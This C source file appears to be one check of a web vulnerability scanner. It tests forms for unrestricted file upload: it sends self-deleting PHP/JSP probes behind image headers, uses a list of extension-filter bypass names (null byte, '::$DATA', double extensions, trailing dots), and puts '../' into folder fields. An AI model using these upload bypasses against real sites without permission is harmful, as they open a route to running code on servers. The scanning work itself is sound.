/* Active, intrusive: uploads that the server runs, or shows as a page of its own (CWE-434). The
 * file multiplies two random numbers and deletes itself when it is run; the product in the
 * answer is the proof, twice. A file that is only shown proves scripting when it is sent as
 * HTML or SVG, not as a download. Names go from plain to tricky; each is tried once. */
#include "base/limits.h"
#include "net/url.h"
#include "scan/checks/active_private.h"
#include "scan/checks/xss.h"

#define UPLOAD_PLACES 8
#define UPLOADS_MAX 24 /* files sent through one form, all told */

enum content { CONTENT_CODE, CONTENT_HTML, CONTENT_SVG, CONTENT_IMAGE };
enum server { SERVER_ANY, SERVER_PHP, SERVER_JAVA, SERVER_DOTNET };
enum how { BY_FILE, BY_FIELD, BY_LIST }; /* where the name stands: of the file, in another field, in that field as a list */
static const struct attempt_kind {
	const char *name; /* "@" is a random word */
	enum content content;
	enum server server;
	enum how how;
} tries[] = {
	{ "@.php", CONTENT_CODE, SERVER_PHP, BY_FILE },
	{ "@.php", CONTENT_CODE, SERVER_PHP, BY_FIELD },
	{ "@.PhP", CONTENT_CODE, SERVER_PHP, BY_FIELD },
	{ "@.php/", CONTENT_CODE, SERVER_PHP, BY_LIST }, /* "@.php/." is @.php once the path is resolved */
	{ "@.jsp", CONTENT_CODE, SERVER_JAVA, BY_FILE },
	{ "@.aspx", CONTENT_CODE, SERVER_DOTNET, BY_FILE },
	{ "@.phtml", CONTENT_CODE, SERVER_PHP, BY_FILE },
	{ "@.PhP", CONTENT_CODE, SERVER_PHP, BY_FILE },
	{ "@.php5", CONTENT_CODE, SERVER_PHP, BY_FILE },
	{ "@.jpg.php", CONTENT_CODE, SERVER_PHP, BY_FILE },
	{ "@.php.", CONTENT_CODE, SERVER_PHP, BY_FILE },
	{ "@.php ", CONTENT_CODE, SERVER_PHP, BY_FILE },
	{ "@.php%00.jpg", CONTENT_CODE, SERVER_PHP, BY_FILE },
	{ "@.pphphp", CONTENT_CODE, SERVER_PHP, BY_FILE },
	{ "@.php.jpg", CONTENT_CODE, SERVER_PHP, BY_FILE },
	{ "@.phar", CONTENT_CODE, SERVER_PHP, BY_FILE },
	{ "@.html", CONTENT_HTML, SERVER_ANY, BY_FILE },
	{ "@.svg", CONTENT_SVG, SERVER_ANY, BY_FILE },
	{ "@.xhtml", CONTENT_SVG, SERVER_ANY, BY_FILE },
	{ "@.php::$DATA", CONTENT_CODE, SERVER_PHP, BY_FILE },
	{ "@.asp", CONTENT_CODE, SERVER_DOTNET, BY_FILE },
	{ "@.asp;.jpg", CONTENT_CODE, SERVER_DOTNET, BY_FILE },
	{ "@.jspx", CONTENT_CODE, SERVER_JAVA, BY_FILE },
	{ "@.php7", CONTENT_CODE, SERVER_PHP, BY_FILE },
	{ "@.php. .", CONTENT_CODE, SERVER_PHP, BY_FILE },
	{ "@.shtml", CONTENT_HTML, SERVER_ANY, BY_FILE },
};

struct attempt {
	struct str name, file_name, word, product, data, type;
	enum how how;
};

/* One form, while it is tried. */
struct job {
	const struct scan_exchange *x, *form;
	struct str boundary;
	struct str name_field, folder_field; /* fields that hold the name or the folder; empty: none */
	bool folder_in_url;
	unsigned sent;
	const char *guess; /* folder in which the harmless file was found though no answer named it */
	struct str folder; /* where the harmless file lies */
};

static struct str fill_name(struct probe *p, const char *form, struct str word)
{
	const char *at = strchr(form, '@');
	return probe_printf(p, "%.*s%.*s%s", (int)(at - form), form, STR_ARG(word), at + 1);
}

/* A picture of one grey dot, so that looking at the first bytes or the size finds a picture. */
static const char dot[] = "\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\0\0\0\0:~\x9bU\0\0\0\nIDATx\x9c"
			  "ch\0\0\0\x82\0\x81w\xcdr\xb6\0\0\0\0IEND\xae"
			  "B`\x82";

static void make(struct probe *p, const struct attempt_kind *kind, struct attempt *a)
{
	uint32_t x = probe_number(p, 30000, 99999), y = probe_number(p, 30000, 99999);
	struct buf b;
	a->word = probe_word(p, 8);
	a->name = fill_name(p, kind->name, a->word);
	a->how = kind->how;
	a->file_name = kind->how == BY_FILE ? a->name : fill_name(p, "@.png", a->word);
	a->product = probe_printf(p, "%llu", (unsigned long long)x * y);
	a->type = kind->content == CONTENT_SVG ? STR("image/svg+xml") : kind->content == CONTENT_HTML ? STR("image/gif") : STR("image/png");
	if (kind->content == CONTENT_SVG) {
		a->data = probe_printf(p, "<svg xmlns=\"http://www.w3.org/2000/svg\"><%.*s xmlns=\"http://www.w3.org/1999/xhtml\" onclick=\"1\"/></svg>",
				       STR_ARG(a->word));
		return;
	}
	buf_init(&b, 16 * KIB);
	if (kind->content == CONTENT_HTML)
		buf_c(&b, "GIF89a");
	else
		buf_str(&b, str_make(dot, sizeof(dot) - 1));
	if (kind->content == CONTENT_CODE)
		buf_printf(&b, "<?php echo %u*%u; @unlink(__FILE__); ?><%%= %uL*%uL %%>\n", x, y, x, y);
	if (kind->content != CONTENT_IMAGE)
		buf_printf(&b, "<%.*s onclick=1></%.*s>", STR_ARG(a->word), STR_ARG(a->word));
	else
		buf_str(&b, a->word);
	a->data = arena_str(probe_arena(p), buf_view(&b));
	buf_free(&b);
}

/* ---- the form ---- */

/* "photo.jpg", or a field that says so. */
static bool holds_name(struct str name, struct str value)
{
	static const char *const words[] = { "filename", "file_name", "savename", "save_name", "saveas", "newname" };
	size_t dot_at = str_rchr(value, '.') < 0 ? 0 : (size_t)str_rchr(value, '.');
	for (size_t i = 0; i < ARRAY_SIZE(words); i++)
		if (str_ihas(name, str_c(words[i])))
			return true;
	if (!dot_at || value.len - dot_at < 4 || value.len - dot_at > 5 || value.len > 80)
		return false;
	for (size_t i = 0; i < value.len; i++)
		if (!ascii_alnum(value.ptr[i]) && !strchr("._-", value.ptr[i]))
			return false;
	return !ascii_digit(value.ptr[value.len - 1]) || str_iends(value, STR("mp3")) || str_iends(value, STR("mp4"));
}

static bool holds_folder(struct str name, struct str value)
{
	return str_ends(value, STR("/")) && str_find(value, STR("://")) < 0 &&
	       (str_ihas(name, STR("path")) || str_ihas(name, STR("dir")) || str_ihas(name, STR("folder")) || str_starts(value, STR(".")));
}

static bool read_form(struct probe *p, struct job *j)
{
	struct str type = scan_header_get(&j->x->request_headers, "content-type"), rest = j->x->request_body, pair;
	ssize_t at = str_ifind(type, STR("boundary="));
	struct active_part m;
	bool file = false;
	if (!str_istarts(type, STR("multipart/")) || at < 0)
		return false;
	j->boundary = str_trim(str_from(type, (size_t)at + 9));
	while (active_next_part(j->boundary, &rest, &m)) {
		file = file || m.file.ptr;
		if (!m.file.ptr && !j->name_field.len && holds_name(m.name, m.value))
			j->name_field = m.name;
		else if (!m.file.ptr && !j->folder_field.len && holds_folder(m.name, m.value))
			j->folder_field = m.name;
	}
	rest = j->x->query;
	while (file && !j->folder_field.len && str_split(&rest, '&', &pair)) {
		ssize_t eq = str_chr(pair, '=');
		struct str name = url_form_decode(probe_arena(p), eq < 0 ? pair : str_sub(pair, 0, (size_t)eq));
		if (eq < 0 || !holds_folder(name, url_form_decode(probe_arena(p), str_from(pair, (size_t)eq + 1))))
			continue;
		j->folder_field = name;
		j->folder_in_url = true;
	}
	return file;
}

static void add_part(const struct job *j, struct buf *b, struct str name, const char *behind, struct str value)
{
	buf_printf(b, "--%.*s\r\nContent-Disposition: form-data; name=\"%.*s%s\"\r\n\r\n", STR_ARG(j->boundary), STR_ARG(name), behind);
	buf_str(b, value);
	buf_c(b, "\r\n");
}

/* The form's own body with our file in it. `up`: one folder above the form's own. */
static struct str with_file(struct probe *p, const struct job *j, const struct attempt *a, bool up)
{
	struct buf b;
	struct str rest = j->x->request_body;
	struct active_part m;
	bool put = false;
	buf_init(&b, 1 * MIB);
	while (active_next_part(j->boundary, &rest, &m)) {
		bool named = a->how != BY_FILE && str_eq(m.name, j->name_field);
		if (m.file.ptr && !put) {
			put = true;
			buf_printf(&b, "--%.*s\r\nContent-Disposition: form-data; name=\"%.*s\"; filename=\"%.*s\"\r\nContent-Type: %.*s\r\n\r\n",
				   STR_ARG(j->boundary), STR_ARG(m.name), STR_ARG(a->file_name), STR_ARG(a->type));
			buf_str(&b, a->data);
			buf_c(&b, "\r\n");
		} else if (m.file.ptr) {
			continue;
		} else if (named && a->how == BY_LIST) {
			add_part(j, &b, m.name, "[0]", a->name);
			add_part(j, &b, m.name, "[2]", STR("png"));
		} else if (named) {
			add_part(j, &b, m.name, "", a->name);
		} else if (up && !j->folder_in_url && str_eq(m.name, j->folder_field)) {
			add_part(j, &b, m.name, "", probe_printf(p, "%.*s../", STR_ARG(m.value)));
		} else {
			add_part(j, &b, m.name, "", m.value);
		}
	}
	buf_printf(&b, "--%.*s--\r\n", STR_ARG(j->boundary));
	struct str body = arena_str(probe_arena(p), buf_view(&b));
	buf_free(&b);
	return put ? body : STR_NULL;
}

/* The address with the folder in its query one folder higher. */
static struct str higher(struct probe *p, const struct job *j)
{
	struct str rest = j->x->query, pair, all = STR("");
	if (!j->folder_in_url)
		return STR("");
	while (str_split(&rest, '&', &pair)) {
		ssize_t eq = str_chr(pair, '=');
		bool it = eq > 0 && str_eq(url_form_decode(probe_arena(p), str_sub(pair, 0, (size_t)eq)), j->folder_field);
		all = probe_printf(p, "%.*s%c%.*s%s", STR_ARG(all), all.len ? '&' : '?', STR_ARG(pair), it ? "../" : "");
	}
	return probe_printf(p, "%.*s%.*s%.*s", STR_ARG(j->x->origin), STR_ARG(j->x->path), STR_ARG(all));
}

/* ---- where it went ---- */

static void add_place(struct probe *p, const struct url *base, struct str v, struct str *list, size_t *n)
{
	struct url u;
	if (*n >= UPLOAD_PLACES || url_parse(probe_arena(p), v, base, 0, &u, NULL) < 0 || !url_same_origin(&u, base))
		return;
	/* "folder//name" is folder/name to every server, and what is relative to it resolves otherwise */
	char *path = arena_cstr(probe_arena(p), u.path);
	size_t to = 0;
	for (size_t i = 0; i < u.path.len; i++)
		if (path[i] != '/' || to == 0 || path[to - 1] != '/')
			path[to++] = path[i];
	u.path = str_make(path, to);
	struct str full = url_text(probe_arena(p), &u, URL_NO_FRAGMENT);
	for (size_t j = 0; j < *n; j++)
		if (str_eq(list[j], full))
			return;
	list[(*n)++] = full;
}

/* A path that ends in our name, in JSON or in words. */
static void place_in_text(struct probe *p, const struct scan_exchange *x, const struct url *base, const struct attempt *a, struct str *list, size_t *n)
{
	struct str t = active_content(x);
	ssize_t at = str_find(t, a->word);
	struct buf b;
	if (at < 0)
		return;
	size_t from = (size_t)at, to = (size_t)at;
	while (from > 0 && !strchr("\"' <>,()\n\t", t.ptr[from - 1]))
		from--;
	while (to < t.len && !strchr("\"'<>,()\n\t&", t.ptr[to]))
		to++;
	buf_init(&b, 64 * KIB);
	for (size_t i = from; i < to && i < from + 2000; i++)
		if (t.ptr[i] != '\\')
			buf_char(&b, t.ptr[i]);
	struct str v = arena_str(probe_arena(p), buf_view(&b));
	buf_free(&b);
	ssize_t blank = str_find(v, STR(" "));
	add_place(p, base, v, list, n);
	if (blank > 0)
		add_place(p, base, str_sub(v, 0, (size_t)blank), list, n);
}

/* Addresses in the answer that were not on the page of the form: where the file may lie. */
static size_t places(struct probe *p, const struct job *j, const struct scan_exchange *x, const struct attempt *a, struct str *list)
{
	static const char *const attrs[] = { "src", "href", "data", "value" };
	static const char *const usual[] = { "/uploads/", "/upload/", "/files/", "/images/" };
	size_t n = 0;
	struct url base;
	if (url_parse(probe_arena(p), x->page ? x->page->base : x->url, NULL, 0, &base, NULL) < 0)
		return 0;
	/* what bears our name first */
	for (int named = 1; named >= 0; named--)
		for (size_t i = 0; x->page && i < x->page->tags_len; i++)
			for (size_t k = 0; k < ARRAY_SIZE(attrs); k++) {
				struct str v = scan_tag_attr(&x->page->tags[i], attrs[k]);
				if (v.len < 5 || str_chr(v, '.') < 0 || str_has(v, a->word) != named)
					continue;
				if (named || !j->form || !str_has(j->form->text, v))
					add_place(p, &base, v, list, &n);
			}
	place_in_text(p, x, &base, a, list, &n);
	if (j->guess)
		add_place(p, &base, probe_printf(p, "%s%.*s", j->guess, STR_ARG(a->name)), list, &n);
	for (size_t i = 0; n == 0 && !j->sent && i < ARRAY_SIZE(usual); i++)
		add_place(p, &base, probe_printf(p, "%s%.*s", usual[i], STR_ARG(a->name)), list, &n);
	return n;
}

static bool runs(const struct scan_exchange *x, const struct attempt *a)
{
	return x->status == 200 && str_has(x->body, a->product) && !str_has(x->body, STR("<?php"));
}

static bool shows(struct probe *p, const struct scan_exchange *x, const struct attempt *a)
{
	bool document = x->media == MEDIA_HTML || (x->media == MEDIA_XML && (str_has(x->mime, STR("svg")) || str_has(x->mime, STR("xhtml"))));
	return x->status == 200 && document && x->mime_declared && xss_is_page(x) &&
	       xss_proof(probe_arena(p), x, XSS_TAG, a->word).ptr;
}

/* Sends the file; where it may lie. 0: refused, or as many were sent as may be. */
static size_t upload(struct probe *p, struct job *j, const struct attempt *a, bool up, struct str *list)
{
	const struct scan_exchange *sent;
	struct scan_mutation m = { .body_set = true, .body = with_file(p, j, a, up), .url = up ? higher(p, j) : STR(""), .method = STR("POST"),
				   .content_type = scan_header_get(&j->x->request_headers, "content-type"), .follow = 2, .fresh = true };
	size_t n = 0;
	if (m.body.ptr && j->sent < UPLOADS_MAX && probe_send(p, &m, &sent) == 0 && sent->status < 400)
		n = places(p, j, sent, a, list);
	j->sent++;
	return n;
}

/* Uploads and looks: 2 it ran, 1 it is shown as a page, 0 neither. */
static int try_once(struct probe *p, struct job *j, const struct attempt_kind *kind, const struct scan_exchange **ret, struct str *ret_proof)
{
	struct attempt a;
	struct str list[UPLOAD_PLACES];
	const struct scan_exchange *r;
	make(p, kind, &a);
	size_t n = upload(p, j, &a, false, list);
	for (size_t i = 0; i < n; i++) {
		if (probe_send(p, &(struct scan_mutation){ .url = list[i], .fresh = true }, &r) < 0)
			continue;
		int found = runs(r, &a) ? 2 : shows(p, r, &a) ? 1 : 0;
		*ret_proof = found == 2 ? a.product : a.word;
		*ret = r;
		if (found)
			return found;
	}
	return 0;
}

/* A harmless picture: where does it go? With `up`, does it go one folder higher when asked to?
 * The folder in which it lies; .ptr NULL when it was not found. */
static struct str try_picture(struct probe *p, struct job *j, bool up, const struct scan_exchange **ret)
{
	static const struct attempt_kind kind = { "@.png", CONTENT_IMAGE, SERVER_ANY, BY_FILE };
	static const char *const usual[] = { "/uploads/", "/upload/", "/files/", "/images/" };
	struct attempt a;
	struct str list[UPLOAD_PLACES];
	struct url u;
	make(p, &kind, &a);
	size_t n = upload(p, j, &a, up, list);
	for (size_t i = 0; i < n; i++) {
		if (probe_send(p, &(struct scan_mutation){ .url = list[i], .fresh = true }, ret) < 0 || (*ret)->status != 200 ||
		    !str_eq((*ret)->body, a.data) || url_parse(probe_arena(p), list[i], NULL, 0, &u, NULL) < 0)
			continue;
		struct str folder = arena_str(probe_arena(p), url_directory(&u));
		for (size_t k = 0; k < ARRAY_SIZE(usual); k++)
			if (str_eq(folder, str_c(usual[k])) && str_has(list[i], a.word))
				j->guess = usual[k];
		return folder;
	}
	return STR_NULL;
}

static void report(struct probe *p, const struct scan_exchange *about, const struct scan_exchange *x, struct str proof, const char *name, int how)
{
	bool run = how == 2;
	probe_report(p, &(struct scan_report){
				.exchange = x,
				.about = about,
				.proof = proof,
				.severity_set = true,
				.severity = run ? SEVERITY_CRITICAL : SEVERITY_MEDIUM,
				.confidence_set = true,
				.confidence = CONFIDENCE_CERTAIN,
				.detail_zh = probe_printf(p, run ? "形如 %s 的文件被上传并由服务器执行（算出了随机乘积，文件执行后已自行删除）。" :
								   "形如 %s 的文件被上传并以网页形式展示，可执行脚本。请删除扫描留下的文件 %.*s。",
							  name, run ? 0 : (int)x->url.len, x->url.ptr),
				.detail_en = probe_printf(p, run ? "A file named like %s was uploaded and run by the server (it computed a random product and "
								   "then deleted itself)." :
								   "A file named like %s was uploaded and is shown as a page that can run script. Please "
								   "remove the file this scan left: %.*s.", name, run ? 0 : (int)x->url.len, x->url.ptr) });
}

static void report_folder(struct probe *p, const struct job *j, const struct scan_exchange *x)
{
	probe_report(p, &(struct scan_report){
				.exchange = x,
				.about = j->x,
				.proof = x->path,
				.parameter = j->folder_field,
				.place_key = STR("folder"),
				.title_zh = STR("上传的目标目录由访问者决定"),
				.title_en = STR("The visitor decides into which folder an upload goes"),
				.severity_set = true,
				.severity = SEVERITY_MEDIUM,
				.confidence_set = true,
				.confidence = CONFIDENCE_CERTAIN,
				.detail_zh = probe_printf(p, "参数 %.*s 加上 ../ 后，图片写到了上传目录之外。请删除扫描留下的文件 %.*s。",
							  STR_ARG(j->folder_field), STR_ARG(x->url)),
				.detail_en = probe_printf(p, "With ../ behind %.*s a picture was written outside the upload folder. Please remove the file "
							     "this scan left: %.*s.",
							  STR_ARG(j->folder_field), STR_ARG(x->url)) });
}

/* What runs there, as far as it says so. */
static enum server server_of(const struct scan_exchange *x)
{
	static const struct {
		const char *ext, *sign;
		enum server server;
	} signs[] = { { ".php", "PHP", SERVER_PHP }, { ".phtml", "PHPSESSID", SERVER_PHP }, { ".jsp", "JSESSIONID", SERVER_JAVA },
		      { ".do", "Servlet", SERVER_JAVA }, { ".aspx", "ASP.NET", SERVER_DOTNET }, { ".asp", "ASPSESSION", SERVER_DOTNET },
		      { ".ashx", "Microsoft-IIS", SERVER_DOTNET } };
	struct str by = scan_header_get(&x->headers, "x-powered-by"), cookie = scan_header_get(&x->request_headers, "cookie");
	for (size_t i = 0; i < ARRAY_SIZE(signs); i++)
		if (str_iends(x->path, str_c(signs[i].ext)) || str_has(by, str_c(signs[i].sign)) || str_has(cookie, str_c(signs[i].sign)))
			return signs[i].server;
	return SERVER_ANY;
}

/* The same form stands under several addresses that differ in the query only. */
static bool new_form(struct probe *p, const struct job *j)
{
	struct str names = STR(""), rest = j->x->request_body;
	struct active_part m;
	while (active_next_part(j->boundary, &rest, &m))
		names = probe_printf(p, "%.*s&%.*s", STR_ARG(names), STR_ARG(m.name));
	return probe_first(p, probe_printf(p, "%.*s%.*s%.*s", STR_ARG(j->x->origin), STR_ARG(j->x->path), STR_ARG(names)));
}

static void probe_upload(struct probe *p, const struct scan_exchange *x)
{
	struct job j = { .x = x };
	const struct scan_exchange *r;
	struct str proof;
	enum server server = server_of(x);
	if (!read_form(p, &j) || !new_form(p, &j))
		return;
	if (probe_from(p).len && probe_get(p, probe_from(p), &j.form) < 0)
		j.form = NULL;
	j.folder = try_picture(p, &j, false, &r);
	struct str folder = j.folder.ptr && j.folder_field.len ? try_picture(p, &j, true, &r) : STR_NULL;
	if (folder.ptr && !str_eq(folder, j.folder) && str_starts(j.folder, folder))
		report_folder(p, &j, r);
	for (size_t i = 0; i < ARRAY_SIZE(tries); i++) {
		const struct attempt_kind *k = &tries[i];
		if ((k->server != SERVER_ANY && server != SERVER_ANY && k->server != server) || (k->how != BY_FILE && !j.name_field.len))
			continue;
		int found = try_once(p, &j, k, &r, &proof);
		/* code that is only shown: what might run is tried first */
		if (found == 0 || (found == 1 && k->content == CONTENT_CODE) || try_once(p, &j, k, &r, &proof) != found)
			continue;
		report(p, x, r, proof, k->name, found);
		return;
	}
}

const struct scan_check check_file_upload = {
	.id = "file-upload",
	.title_zh = "任意文件上传",
	.title_en = "Unrestricted file upload",
	.severity = SEVERITY_HIGH,
	.cwe = 434,
	.owasp = "A04:2021",
	.modes = SCAN_STANDARD_UP,
	.flags = SCAN_INTRUSIVE,
	.place = PLACE_PAGE,
	.on_request = probe_upload,
};
